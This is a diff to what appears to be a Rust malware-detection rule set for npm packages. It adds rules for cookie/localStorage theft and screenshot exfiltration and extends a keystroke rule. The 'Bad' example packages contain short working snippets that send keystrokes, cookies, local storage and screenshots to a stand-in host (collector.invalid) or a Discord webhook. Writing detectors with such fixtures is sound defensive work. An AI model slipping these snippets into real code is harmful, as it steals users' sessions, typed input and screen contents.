@@ -22,7 +22,9 @@ pub mod collection {
     pub mod metadata_service_queried_unasked;
     pub mod metadata_service_reply_sent;
     pub mod npm_token_sent_to_network;
+    pub mod page_store_sent;
     pub mod process_memory_read;
+    pub mod screen_sent;
     pub mod secret_argument_sent;
     pub mod secret_command_output_sent;
     pub mod secret_file_read_unasked;
@@ -214,7 +216,9 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::metadata_service_queried_unasked::MetadataServiceQueriedUnasked,
     &collection::metadata_service_reply_sent::MetadataServiceReplySent,
     &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
+    &collection::page_store_sent::PageStoreSent,
     &collection::process_memory_read::ProcessMemoryRead,
+    &collection::screen_sent::ScreenSent,
     &collection::secret_argument_sent::SecretArgumentSent,
     &collection::secret_command_output_sent::SecretCommandOutputSent,
     &collection::secret_file_read_unasked::SecretFileReadUnasked,
@@ -943,9 +947,10 @@ exports.read = (account) => execFileSync("security", ["find-generic-password", "
     ),
     (
         "keystrokes-sent",
-        r#"# Keys that a person presses leave the machine
+        r##"# Keys that a person presses leave the machine
 
-What a system-wide listener to the keyboard hears reaches a host.
+What a listener to the keyboard hears reaches a host: one of the whole system, or one of a page for a host that
+the package never names.
 
 ## Why it matters
 
@@ -968,6 +973,15 @@ new GlobalKeyboardListener().addListener((event) => {
 });
 ```
 
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+let typed = "";
+document.addEventListener("keydown", (event) => { typed += event.key; });
+setInterval(() => fetch("https://collector.invalid/k", { method: "POST", body: typed }), 5000); //~ here
+```
+
 ## Good
 
 ```package
@@ -978,10 +992,19 @@ const { GlobalKeyboardListener } = require("node-global-key-listener");
 exports.onHotKey = (name, act) => new GlobalKeyboardListener().addListener((event) => event.name === name && act());
 ```
 
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const field = document.querySelector("#search");
+field.addEventListener("input", (event) => fetch("/search?q=" + event.target.value));
+document.addEventListener("keydown", (event) => event.key === "Escape" && field.blur());
+```
+
 ## References
 
 - Socket: HexEval (June 2025)
-"#,
+"##,
     ),
     (
         "metadata-service-queried-unasked",
@@ -1130,6 +1153,54 @@ exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(".npmrc", "utf8"))
 "#,
     ),
     (
+        "page-store-sent",
+        r#"# What a page stores leaves at once
+
+Loading the package sends cookies or local storage of the page it runs in to a host that it never names.
+
+## Why it matters
+
+Cookies and stored tokens let their holder act as the person, without any password.
+
+## Known benign uses
+
+Clients read their own token to send it to their own service, when they are called. Measuring scripts name
+their host.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const picture = new Image();
+picture.src = "https://collector.invalid/c?d=" + encodeURIComponent(document.cookie); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+navigator.sendBeacon("https://collector.invalid/c", JSON.stringify({ ...localStorage })); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const theme = localStorage.getItem("theme");
+fetch("https://themes.example/" + theme);
+exports.load = (address) => fetch(address, { headers: { authorization: localStorage.getItem("token") } });
+```
+
+## References
+
+- MITRE ATT&CK T1539, Steal Web Session Cookie
+"#,
+    ),
+    (
         "process-memory-read",
         r#"# Memory of another process is read
 
@@ -1182,6 +1253,59 @@ exports.usage = (pid) => fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(" ")
 
 - Aqua: Trivy incident (March 2026)
 - StepSecurity: TanStack compromise (May 2026)
+"#,
+    ),
+    (
+        "screen-sent",
+        r#"# A picture of the screen leaves the machine
+
+A screenshot is taken when the package is installed or loaded, or goes to a host that the package never names.
+
+## Why it matters
+
+A picture shows whatever is open: mail, wallets, passwords that are shown for a moment.
+
+## Known benign uses
+
+Tools for remote help and tests send pictures when they are asked to, to an address that the caller gives.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const screenshot = require("screenshot-desktop");
+setInterval(async () => {
+  const picture = await screenshot({ format: "png" });
+  fetch("https://collector.invalid/s", { method: "POST", body: picture }); //~ here
+}, 30000);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const { WebhookClient } = require("discord.js");
+const screenshot = require("screenshot-desktop");
+exports.start = () => screenshot().then((picture) => {
+  new WebhookClient({ url: "https://discord.com/api/webhooks/1/a" }).send({ files: [picture] }); //~ here
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const screenshot = require("screenshot-desktop");
+exports.share = async (address) => fetch(address, { method: "POST", body: await screenshot() });
+```
+
+## References
+
+- Socket: OtterCookie (November 2025)
 "#,
     ),
     (
